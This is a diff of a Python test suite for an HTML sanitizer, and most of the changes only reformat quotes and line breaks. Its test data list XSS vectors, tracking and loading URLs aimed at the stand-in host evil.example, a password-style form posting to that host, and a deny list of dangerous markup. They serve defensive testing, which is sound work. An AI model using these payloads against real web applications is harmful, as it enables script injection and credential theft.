@@ -21,7 +21,7 @@ LOADING = (
     '<table background="https://evil.example/x"><tr><td>t</td></tr></table>',
     "<p style=\"background-image: url('https://evil.example/x')\">t</p>",
     '<p style="background: \\75rl(https://evil.example/x)">t</p>',
-    '<p style="background-image:image-set(\'https://evil.example/x\' 1x)">t</p>',
+    "<p style=\"background-image:image-set('https://evil.example/x' 1x)\">t</p>",
     '<p style="cursor: url(https://evil.example/x), auto">t</p>',
     "<style>@import 'https://evil.example/x';</style>",
     '<link rel="stylesheet" href="https://evil.example/x">',
@@ -43,10 +43,10 @@ RUNNING = (
     '<a href="java\tscript:alert(1)">x</a>',
     '<a href="data:text/html,<script>alert(1)</script>">x</a>',
     '<a href="/web/session/logout">x</a>',
-    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
+    '<form action="https://evil.example/"><input name="p"><button>x</button></form>',
     "<svg><style><img src=x onerror=alert(1)></style></svg>",
     "<plaintext><script>alert(1)</script>",
-    "<p style=\"position:fixed;z-index:9999;margin-left:-999px\">x</p>",
+    '<p style="position:fixed;z-index:9999;margin-left:-999px">x</p>',
     '<div class="o_form_view modal" id="wrapwrap">x</div>',
 )
 
@@ -68,9 +68,19 @@ class TestSafeHtml(BaseCase):
             with self.subTest(html):
                 safe = safe_html(html).html.lower()
                 for bad in (
-                    "<script", "onerror", "javascript:", "data:text", "/web/session",
-                    "<form", "<input", "<button", "position", "z-index", "margin",
-                    "class=", "id=",
+                    "<script",
+                    "onerror",
+                    "javascript:",
+                    "data:text",
+                    "/web/session",
+                    "<form",
+                    "<input",
+                    "<button",
+                    "position",
+                    "z-index",
+                    "margin",
+                    "class=",
+                    "id=",
                 ):
                     self.assertNotIn(bad, safe)
 
@@ -88,14 +98,21 @@ class TestSafeHtml(BaseCase):
     def test_good_mail_stays_good(self):
         html = '<p style="color: red">Hi <b>you</b>,<br><a href="https://x.example">go</a></p>'
         safe = safe_html(html).html
-        for part in ('style="color: red"', "<b>you</b>", 'href="https://x.example"', "noopener"):
+        for part in (
+            'style="color: red"',
+            "<b>you</b>",
+            'href="https://x.example"',
+            "noopener",
+        ):
             self.assertIn(part, safe)
 
     def test_twice_is_the_same(self):
         for html in (*LOADING, *RUNNING):
             once = safe_html(html).html
             with self.subTest(html):
-                self.assertEqual(safe_html(once).html, safe_html(safe_html(once).html).html)
+                self.assertEqual(
+                    safe_html(once).html, safe_html(safe_html(once).html).html
+                )
 
     def test_bounded(self):
         start = time.monotonic()
@@ -114,5 +131,6 @@ class TestText(BaseCase):
 
     def test_html_to_text(self):
         self.assertEqual(
-            html_to_text("<style>x</style><p>one</p><p>two<br>three</p>"), "one\ntwo\nthree"
+            html_to_text("<style>x</style><p>one</p><p>two<br>three</p>"),
+            "one\ntwo\nthree",
         )
